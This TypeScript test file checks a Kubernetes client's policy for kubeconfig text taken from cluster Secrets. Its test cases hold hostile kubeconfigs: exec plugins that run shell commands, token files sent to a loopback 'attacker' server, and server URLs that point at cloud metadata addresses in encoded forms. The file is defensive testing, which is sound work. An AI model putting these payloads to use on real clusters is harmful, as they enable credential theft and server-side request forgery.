/**
 * kubeConfigFromText reads text from the cluster under a KubeconfigPolicy:
 * strict by default, every dangerous field refused (PolicyRefused, naming
 * it) before any file is looked at or any request sent; `'trusted'` shows
 * what the same text would have done (a token file read and sent to a
 * loopback "attacker" server); what a policy allows works against the real
 * API server.
 */
import { chmod, mkdir, mkdtemp, readFile, symlink, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTransport, isClientError, isPolicyRefused, kubeConfigFromText, loadKubeConfig } from '../src/index.js';
import type { ClientError, KubeconfigPolicy, RestConfig } from '../src/index.js';
import { testKubeconfigPath, uniqueName } from '../../../test/support/env.js';
import { selfSigned } from './support.js';

const b64 = (s: string): string => Buffer.from(s).toString('base64');
const SOURCE = 'Secret fleet-system/eu-1 key kubeconfig';

let dir: string;
let admin: RestConfig;

/** A loopback HTTPS server standing for a server a Secret's author controls: it records what reaches it. */
interface Attacker {
  readonly url: string;
  readonly caPem: string;
  readonly seen: { path: string; authorization: string | undefined }[];
  close(): Promise<void>;
}

async function attacker(): Promise<Attacker> {
  const cert = selfSigned('localhost');
  const seen: Attacker['seen'] = [];
  const server = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
    seen.push({ path: req.url ?? '', authorization: req.headers.authorization });
    res.writeHead(403, { 'content-type': 'text/plain' });
    res.end('attacker says no');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
    caPem: cert.certPem,
    seen,
    close: async () => {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    },
  };
}

/** A kubeconfig with one cluster `c`, one user `u` and a context `x` naming them. */
function kubeconfig(cluster: Record<string, unknown>, user: Record<string, unknown> = {}): string {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'x',
    clusters: [{ name: 'c', cluster }],
    users: [{ name: 'u', user }],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
  });
}

function refused(text: string, options: { policy?: KubeconfigPolicy; hostServer?: string } = {}): ClientError {
  try {
    kubeConfigFromText(text, { source: SOURCE, ...options });
  } catch (e) {
    expect(isPolicyRefused(e), `expected PolicyRefused, got ${String(e)}`).toBe(true);
    return e as ClientError;
  }
  throw new Error('expected the kubeconfig to be refused');
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kubeloop-policy-'));
  admin = loadKubeConfig(testKubeconfigPath());
});

describe('the strict policy (the default of kubeConfigFromText)', () => {
  let evil: Attacker;
  beforeAll(async () => {
    evil = await attacker();
  });
  afterAll(async () => {
    await evil.close();
  });

  it('refuses every command, file, proxy, insecure TLS, host and metadata server, naming the field, and reads nothing', async () => {
    const marker = join(dir, 'exec-ran');
    const secretFile = join(dir, 'operator-token');
    await writeFile(secretFile, 'operator-secret-token-123');
    const ca = b64(evil.caPem);
    const to = { server: evil.url, 'certificate-authority-data': ca, 'tls-server-name': 'localhost' };
    const cases: [string, string, string][] = [
      [kubeconfig(to, { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', `touch ${marker}`] } }), 'users["u"].exec.command', 'exec credential plugin "sh"'],
      [kubeconfig(to, { 'auth-provider': { name: 'gcp', config: { 'cmd-path': 'sh', 'cmd-args': `-c "touch ${marker}"` } } }), 'users["u"].auth-provider', 'auth provider "gcp"'],
      [kubeconfig(to, { 'auth-provider': { name: 'oidc', config: { 'id-token': 'x', 'idp-issuer-url': evil.url } } }), 'users["u"].auth-provider', 'auth provider "oidc"'],
      [kubeconfig(to, { tokenFile: secretFile }), 'users["u"].tokenFile', `reading the local file ${secretFile}`],
      [kubeconfig(to, { tokenFile: 'token' }), 'users["u"].tokenFile', 'the relative file path "token"'],
      [kubeconfig(to, { 'client-certificate': secretFile, 'client-key': secretFile }), 'users["u"].client-certificate', 'reading the local file'],
      [kubeconfig({ server: evil.url, 'certificate-authority': secretFile }), 'clusters["c"].certificate-authority', 'reading the local file'],
      [kubeconfig({ ...to, 'proxy-url': evil.url.replace('https', 'http') }), 'clusters["c"].proxy-url', 'the proxy'],
      [kubeconfig({ server: evil.url, 'insecure-skip-tls-verify': true }), 'clusters["c"].insecure-skip-tls-verify', 'skipping the TLS check'],
      [kubeconfig({ server: 'https://kubernetes.default.svc' }), 'clusters["c"].server', 'in-cluster name'],
      [kubeconfig({ server: 'https://kubernetes.default.svc.cluster.local:443' }), 'clusters["c"].server', 'in-cluster name'],
      [kubeconfig({ server: 'http://169.254.169.254/latest/meta-data' }), 'clusters["c"].server', 'metadata address 169.254.169.254'],
      [kubeconfig({ server: 'http://2852039166/' }), 'clusters["c"].server', 'metadata address 169.254.169.254'], // the same address, written as one number
      [kubeconfig({ server: 'http://[fd00:ec2::254]/' }), 'clusters["c"].server', 'metadata address fd00:ec2::254'],
      [kubeconfig({ server: 'http://[::ffff:169.254.169.254]/' }), 'clusters["c"].server', 'metadata address'],
      [kubeconfig({ server: 'http://metadata.google.internal/computeMetadata/v1/' }), 'clusters["c"].server', 'metadata address metadata.google.internal'],
      [kubeconfig({ server: 'http://100.100.100.200/' }), 'clusters["c"].server', 'metadata address 100.100.100.200'],
    ];
    for (const [text, field, what] of cases) {
      const err = refused(text);
      expect(err.field, text).toBe(field);
      expect(err.message.startsWith(`${SOURCE}: ${field}: `), err.message).toBe(true);
      expect(err.message).toContain(what);
      expect(err.message).toMatch(/to allow it: /);
      expect(err.message).not.toContain('operator-secret-token-123');
    }
    expect(existsSync(marker)).toBe(false);
    expect(evil.seen).toEqual([]);
  });

  it("refuses the host's own API server given as hostServer, also spelled localhost or with another loopback address", () => {
    const port = new URL(admin.server).port;
    const ca = b64(admin.tls!.caData!);
    for (const server of [admin.server, `https://localhost:${port}`, `https://127.0.0.2:${port}/`, `https://[::1]:${port}`]) {
      const err = refused(kubeconfig({ server, 'certificate-authority-data': ca }), { hostServer: admin.server });
      expect(err.field).toBe('clusters["c"].server');
      expect(err.message).toContain("this process's own API server");
    }
    // Another port of the same machine is another server.
    expect(kubeConfigFromText(kubeconfig({ server: 'https://127.0.0.1:1', 'certificate-authority-data': ca }), { hostServer: admin.server }).server).toBe('https://127.0.0.1:1');
  });

  it('would have sent the token file to the server of the Secret: the same text, trusted, does (the attack is real)', async () => {
    const secretFile = join(dir, 'operator-token-2');
    await writeFile(secretFile, 'operator-secret-token-456');
    const text = kubeconfig({ server: evil.url, 'certificate-authority-data': b64(evil.caPem), 'tls-server-name': 'localhost' }, { tokenFile: secretFile });
    refused(text);
    expect(evil.seen).toEqual([]);
    const t = createTransport(kubeConfigFromText(text, { source: SOURCE, policy: 'trusted' }));
    try {
      expect((await t.request({ method: 'GET', path: '/version' })).status).toBe(403);
    } finally {
      t.close();
    }
    expect(evil.seen.map((s) => s.authorization)).toEqual(['Bearer operator-secret-token-456']);
    evil.seen.length = 0;
  });

  // A name the Secret's author controls that resolves to the metadata address: the URL as written
  // looks harmless, so the check has to happen after DNS, on the connection. The name is made to
  // resolve through /etc/hosts (getaddrinfo reads it on each lookup), which needs root, as CI has.
  const canEditHosts = process.getuid?.() === 0 && existsSync('/etc/hosts');
  it.skipIf(!canEditHosts)('refuses a server whose name resolves to the metadata address when connecting, and connects by name otherwise', async () => {
    const name = `${uniqueName('metadata')}.kubeloop-test`;
    const hosts = await readFile('/etc/hosts', 'utf8');
    await writeFile('/etc/hosts', `${hosts.endsWith('\n') ? hosts : `${hosts}\n`}169.254.169.254 ${name}\n`);
    const evil = await attacker();
    try {
      const text = kubeconfig({ server: `https://${name}:6443`, 'certificate-authority-data': b64(evil.caPem) }, { token: 'member-token' });
      const t = createTransport(kubeConfigFromText(text, { source: SOURCE }));
      const err = await t.request({ method: 'GET', path: '/version', timeoutMs: 5_000 }).then(
        () => undefined,
        (e: unknown) => e,
      );
      t.close();
      expect(isPolicyRefused(err), `expected PolicyRefused, got ${String(err)}`).toBe(true);
      expect((err as ClientError).field).toBe('server');
      expect((err as ClientError).message).toContain(`${name} resolves to the link-local or cloud metadata address 169.254.169.254`);
      expect((err as ClientError).message).toContain('policy.allowMetadataServer');

      // The policy's switch lets it through to the network (where nothing answers here).
      const allowed = createTransport(kubeConfigFromText(text, { source: SOURCE, policy: { allowMetadataServer: true } }));
      const other = await allowed.request({ method: 'GET', path: '/version', timeoutMs: 1_500 }).then(
        () => undefined,
        (e: unknown) => e,
      );
      allowed.close();
      expect(isClientError(other) && !isPolicyRefused(other), `expected a network error or timeout, got ${String(other)}`).toBe(true);

      // A name resolving elsewhere is looked up and connected to as usual (the guard only filters).
      const byName = createTransport(kubeConfigFromText(kubeconfig({ server: evil.url.replace('127.0.0.1', 'localhost'), 'certificate-authority-data': b64(evil.caPem) }, { token: 'member-token' }), { source: SOURCE }));
      expect((await byName.request({ method: 'GET', path: '/version' })).status).toBe(403);
      byName.close();
      expect(evil.seen.map((s) => [s.path, s.authorization])).toEqual([['/version', 'Bearer member-token']]);
    } finally {
      await writeFile('/etc/hosts', hosts);
      await evil.close();
    }
  });

  it('uses what the text embeds: a token, client certificate data, CA data', async () => {
    const config = kubeConfigFromText(await readFile(testKubeconfigPath(), 'utf8'), { source: SOURCE });
    const t = createTransport(config);
    try {
      expect((await t.request({ method: 'GET', path: '/api/v1/namespaces/default' })).status).toBe(200);
    } finally {
      t.close();
    }
  });
});

describe('a policy that allows more', () => {
  it('an allowed exec plugin (by absolute path or by name) runs; another command does not', async () => {
    const plugin = join(dir, 'plugin.mjs');
    await writeFile(plugin, `#!${process.execPath}\nconst info = JSON.parse(process.env.KUBERNETES_EXEC_INFO);\nprocess.stdout.write(JSON.stringify({ apiVersion: info.apiVersion, kind: 'ExecCredential', status: { clientCertificateData: process.env.CERT, clientKeyData: process.env.KEY } }));\n`);
    await chmod(plugin, 0o755);
    const text = kubeconfig(
      { server: admin.server, 'certificate-authority-data': b64(admin.tls!.caData!) },
      { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: plugin, env: [{ name: 'CERT', value: admin.tls!.certData! }, { name: 'KEY', value: admin.tls!.keyData! }] } },
    );
    expect(refused(text, { policy: { allowExec: { commands: ['plugin.mjs'] } } }).field).toBe('users["u"].exec.command'); // a bare name matches only a bare command
    const t = createTransport(kubeConfigFromText(text, { source: SOURCE, policy: { allowExec: { commands: [plugin] } } }));
    try {
      expect((await t.request({ method: 'GET', path: '/api/v1/namespaces/default' })).status).toBe(200);
    } finally {
      t.close();
    }
    const byName = kubeconfig({ server: admin.server }, { exec: { command: 'aws', args: ['eks', 'get-token'] } });
    expect(kubeConfigFromText(byName, { policy: { allowExec: { commands: ['aws'] } } }).auth?.exec?.command).toBe('aws');
    expect(refused(kubeconfig({ server: admin.server }, { exec: { command: '/usr/bin/aws' } }), { policy: { allowExec: { commands: ['aws'] } } }).field).toBe('users["u"].exec.command');
  });

  it('an allowed auth provider with a cmd-path still needs the command allowed', () => {
    const gcp = kubeconfig({ server: admin.server }, { 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/usr/bin/gcloud' } } });
    expect(refused(gcp, { policy: { allowAuthProviders: ['gcp'] } }).field).toBe('users["u"].auth-provider.config.cmd-path');
    expect(kubeConfigFromText(gcp, { policy: { allowAuthProviders: ['gcp'], allowExec: { commands: ['/usr/bin/gcloud'] } } }).auth?.authProvider?.name).toBe('gcp');
    const oidcCa = kubeconfig({ server: admin.server }, { 'auth-provider': { name: 'oidc', config: { 'idp-certificate-authority': '/etc/passwd' } } });
    expect(refused(oidcCa, { policy: { allowAuthProviders: ['oidc'] } }).field).toBe('users["u"].auth-provider.config.idp-certificate-authority');
  });

  it('files inside an allowed folder are read (a real token authenticates); a symbolic link out of it and a path outside are refused', async () => {
    const folder = join(dir, uniqueName('creds'));
    await mkdir(folder);
    const tokenFile = join(folder, 'token');
    // The admin's client certificate, as files in the allowed folder.
    await writeFile(join(folder, 'tls.crt'), admin.tls!.certData!);
    await writeFile(join(folder, 'tls.key'), admin.tls!.keyData!);
    const text = kubeconfig({ server: admin.server, 'certificate-authority-data': b64(admin.tls!.caData!) }, { 'client-certificate': join(folder, 'tls.crt'), 'client-key': join(folder, 'tls.key') });
    const t = createTransport(kubeConfigFromText(text, { source: SOURCE, policy: { allowFiles: [folder] } }));
    try {
      expect((await t.request({ method: 'GET', path: '/api/v1/namespaces/default' })).status).toBe(200);
    } finally {
      t.close();
    }
    const outside = join(dir, 'outside-token');
    await writeFile(outside, 'not yours');
    await symlink(outside, tokenFile);
    expect(refused(kubeconfig({ server: admin.server }, { tokenFile }), { policy: { allowFiles: [folder] } }).message).toContain(`inside one of policy.allowFiles (${folder})`);
    expect(refused(kubeconfig({ server: admin.server }, { tokenFile: `${folder}/../outside-token` }), { policy: { allowFiles: [folder] } }).field).toBe('users["u"].tokenFile');
    expect(refused(kubeconfig({ server: admin.server }, { tokenFile: outside }), { policy: { allowFiles: [folder] } }).field).toBe('users["u"].tokenFile');
  });

  it('proxy, insecure TLS, host and metadata servers each have their switch', () => {
    expect(kubeConfigFromText(kubeconfig({ server: admin.server, 'proxy-url': 'http://127.0.0.1:3128' }), { policy: { allowProxy: true } }).proxyUrl).toBe('http://127.0.0.1:3128');
    expect(kubeConfigFromText(kubeconfig({ server: admin.server, 'insecure-skip-tls-verify': true }), { policy: { allowInsecureTLS: true } }).tls?.insecureSkipTLSVerify).toBe(true);
    expect(kubeConfigFromText(kubeconfig({ server: admin.server }), { hostServer: admin.server, policy: { allowHostServer: true } }).server).toBe(admin.server);
    expect(kubeConfigFromText(kubeconfig({ server: 'http://169.254.169.254' }), { policy: { allowMetadataServer: true } }).server).toBe('http://169.254.169.254');
    // insecure-skip-tls-verify on plain http has nothing to skip (client-node writes it for such servers).
    expect(kubeConfigFromText(kubeconfig({ server: 'http://127.0.0.1:8001', 'insecure-skip-tls-verify': true })).server).toBe('http://127.0.0.1:8001');
  });

  it("'trusted' reads the text as a file: relative paths resolved against the source", () => {
    const config = kubeConfigFromText(kubeconfig({ server: admin.server }, { exec: { command: './bin/plugin' } }), { source: join(dir, 'kc.yaml'), policy: 'trusted' });
    expect(config.auth?.exec?.command).toBe(join(dir, 'bin', 'plugin'));
  });

  it('a policy of the wrong shape is an InvalidOptions error naming the field', () => {
    const bad = (policy: unknown): string => {
      try {
        kubeConfigFromText(kubeconfig({ server: admin.server }), { policy: policy as KubeconfigPolicy });
      } catch (e) {
        expect(isClientError(e) && e.reason === 'InvalidOptions').toBe(true);
        return (e as Error).message;
      }
      throw new Error('expected InvalidOptions');
    };
    expect(bad({ allowExec: ['aws'] })).toContain('policy.allowExec must be { commands: [...] }');
    expect(bad({ allowFiles: ['relative/dir'] })).toContain('policy.allowFiles must be a list of absolute folder paths');
    expect(bad({ allowProxy: 'yes' })).toContain('policy.allowProxy must be true or false');
    expect(bad({ allowExecs: { commands: [] } })).toContain('policy.allowExecs must be one of allowExec');
    expect(bad(null)).toContain('policy must be an object');
  });
});
